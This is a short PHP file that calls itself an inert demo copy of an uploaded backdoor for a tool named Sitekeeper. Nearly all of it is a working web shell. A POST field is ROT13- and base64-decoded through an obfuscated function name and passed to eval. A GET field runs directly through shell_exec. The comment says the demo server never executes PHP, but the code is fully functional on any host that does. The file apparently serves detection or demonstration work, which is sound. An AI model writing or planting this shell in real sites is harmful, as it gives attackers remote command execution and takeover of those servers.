<?php
// Sitekeeper demo: an inert copy of a typical uploaded backdoor (the demo's nginx serves no PHP, so it never runs).
// Request input reaches code execution through a decoding chain, as in the web shells found on defaced sites.
if (isset($_POST['k'])) {
    $f = "bas" . "e64_decode";
    @eval($f(str_rot13($_POST['k'])));
}
if (isset($_GET['c'])) {
    echo "<pre>" . shell_exec($_GET['c']) . "</pre>";
}
?>
